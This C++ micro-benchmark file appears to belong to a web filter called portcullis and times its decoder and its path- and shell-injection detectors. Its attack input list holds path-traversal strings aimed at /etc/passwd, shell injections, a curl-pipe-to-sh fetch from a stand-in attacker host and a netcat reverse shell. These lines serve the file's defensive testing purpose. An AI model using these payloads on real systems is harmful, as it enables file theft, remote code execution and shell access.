// Micro benchmarks: decode once, then the path and shell detectors, on benign and attack
// inputs typical of query values. Inputs are inline so the benchmark runs without the corpus.
#include <benchmark/benchmark.h>

#include <string>
#include <vector>

#include "rules/decode/decoder.h"
#include "rules/path/path_detector.h"
#include "rules/shell/shell_detector.h"

namespace {

using portcullis::rules::DecodeOptions;
using portcullis::rules::Decoder;

const std::vector<std::string>& benign() {
  static const std::vector<std::string> v = {
      "Tom & Jerry; the sequel",
      "It costs $5, or 12/05/2026 at the latest",
      "john.doe@example.com",
      "directory/text.txt",
      "https://www.example.com/path/page?x=1",
      "The+quick+brown+fox+jumped+over+the+lazy+dog%2C+didn%27t+it%3F",
      "A rose is a rose is a rose... and so on, 1/2 of the time.",
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0",
  };
  return v;
}

const std::vector<std::string>& attacks() {
  static const std::vector<std::string> v = {
      "..%2f..%2f..%2fetc%2fpasswd",
      "%252e%252e%255c%252e%252e%255cboot.ini",
      "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
      "; cat /etc/passwd",
      "$(curl http://evil.example/x.sh | sh)",
      "a;w'h'o'a'm'i",
      "cat${IFS}/etc/passwd",
      "| nc 10.0.0.1 4444 -e /bin/sh",
  };
  return v;
}

DecodeOptions query_options() {
  DecodeOptions o;
  o.plus_as_space = true;
  return o;
}

void run(benchmark::State& state, const std::vector<std::string>& inputs, int what) {
  Decoder decoder;
  size_t bytes = 0;
  for (auto _ : state) {
    for (const auto& in : inputs) {
      auto d = decoder.decode(in, query_options());
      if (what == 1) benchmark::DoNotOptimize(portcullis::rules::detect_path(d.text));
      if (what == 2) benchmark::DoNotOptimize(portcullis::rules::detect_shell(d.text));
      if (what == 3) {
        benchmark::DoNotOptimize(portcullis::rules::detect_path(d.text));
        benchmark::DoNotOptimize(portcullis::rules::detect_shell(d.text));
      }
      benchmark::DoNotOptimize(d.text.data());
      bytes += in.size();
    }
  }
  state.SetBytesProcessed(static_cast<int64_t>(bytes));
  state.SetItemsProcessed(state.iterations() * static_cast<int64_t>(inputs.size()));
}

void BM_DecodeBenign(benchmark::State& s) { run(s, benign(), 0); }
void BM_DecodeAttack(benchmark::State& s) { run(s, attacks(), 0); }
void BM_DecodePathBenign(benchmark::State& s) { run(s, benign(), 1); }
void BM_DecodePathAttack(benchmark::State& s) { run(s, attacks(), 1); }
void BM_DecodeShellBenign(benchmark::State& s) { run(s, benign(), 2); }
void BM_DecodeShellAttack(benchmark::State& s) { run(s, attacks(), 2); }
void BM_DecodeBothBenign(benchmark::State& s) { run(s, benign(), 3); }
void BM_DecodeBothAttack(benchmark::State& s) { run(s, attacks(), 3); }

BENCHMARK(BM_DecodeBenign);
BENCHMARK(BM_DecodeAttack);
BENCHMARK(BM_DecodePathBenign);
BENCHMARK(BM_DecodePathAttack);
BENCHMARK(BM_DecodeShellBenign);
BENCHMARK(BM_DecodeShellAttack);
BENCHMARK(BM_DecodeBothBenign);
BENCHMARK(BM_DecodeBothAttack);

}  // namespace
